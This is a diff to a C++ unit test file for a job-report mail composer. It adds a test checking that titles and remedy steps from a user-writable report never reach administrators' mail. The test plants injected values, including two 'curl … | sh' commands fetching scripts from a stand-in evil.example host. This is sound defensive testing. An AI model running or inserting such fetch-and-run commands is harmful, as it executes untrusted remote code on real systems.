@@ -4,7 +4,9 @@
 #include <set>
 #include <sstream>
 
+#include "postproc/diagnose/rule.h"
 #include "postproc/mail/message.h"
+#include "postproc/report/job_report.h"
 #include "report_samples.h"
 
 namespace reveal {
@@ -82,7 +84,7 @@ TEST(MailMessage, TellsTheFindingInTheSubject) {
   EXPECT_EQ(compose_mail(report, site(), to_user()).subject,
             "[reveal] finding: A process outside the job ran on the job's CPUs (job 4711 resnet50-ddp, 7.1 s lost)");
   EXPECT_EQ(compose_mail(report, site(), to_admins()).subject,
-            "[reveal] critical: A process outside the job ran on the job's CPUs on n01 (job 4711 resnet50-ddp)");
+            "[reveal] critical: " + std::string(find_rule("cpu.outsider")->title) + " on n01 (job 4711 resnet50-ddp)");
   EXPECT_EQ(compose_mail(samples::healthy(), site(), to_user()).subject, "[reveal] healthy: job 4712 resnet50-ddp");
   EXPECT_EQ(compose_mail(samples::insufficient(), site(), to_user()).subject,
             "[reveal] not enough data: a run without a job");
@@ -110,6 +112,21 @@ TEST(MailMessage, AnswersTheReportItSupersedes) {
   EXPECT_EQ(only(mail, "References"), "<reveal.4711-0-0.user@example.org>");
 }
 
+TEST(MailMessage, TellsAdministratorsNoStepAndNoTitleOutOfAUsersFile) {
+  Report report = samples::outsider(8);
+  report.findings[0].title = "Uncorrectable memory errors; drain at once";
+  report.findings[0].remedy.admin = {"curl -s http://evil.example/fix.sh | sh"};
+  report.findings[0].remedy.user = {"curl -s http://evil.example/too.sh | sh"};
+  const MailMessage mail = compose_mail(report, site(), to_admins());
+  EXPECT_EQ(mail.text.find("evil.example"), std::string::npos);
+  EXPECT_EQ(render_html(report).find("evil.example") == std::string::npos, false);  // the case is not void
+  EXPECT_EQ(mail.subject.find("drain"), std::string::npos);
+  const RuleSpec* rule = find_rule(report.findings[0].id);
+  ASSERT_NE(rule, nullptr);
+  EXPECT_NE(mail.subject.find(rule->title), std::string::npos);
+  EXPECT_NE(mail.text.find("files that the owner can write"), std::string::npos);
+}
+
 TEST(MailMessage, SendsEachReaderTheirOwnPart) {
   const Report report = samples::outsider(8);
   MailContext context = to_user();
@@ -123,7 +140,7 @@ TEST(MailMessage, SendsEachReaderTheirOwnPart) {
   EXPECT_NE(beside.find("you type     #SBATCH --exclusive"), std::string::npos);
   const std::string admins = compose_mail(report, site(), to_admins()).text;
   EXPECT_EQ(admins.find("For administrators: job 4711 resnet50-ddp of ada\n"), 0U);
-  EXPECT_LT(admins.find("- Find who ran there"), admins.find("FINDING"));
+  EXPECT_LT(admins.find("- " + std::string(find_rule("cpu.outsider")->admin_remedy.front())), admins.find("FINDING"));
   // Of what concerns them only; the notice below their threshold is in the report.
   EXPECT_EQ(admins.substr(0, admins.find("FINDING")).find("dirty"), std::string::npos);
 }
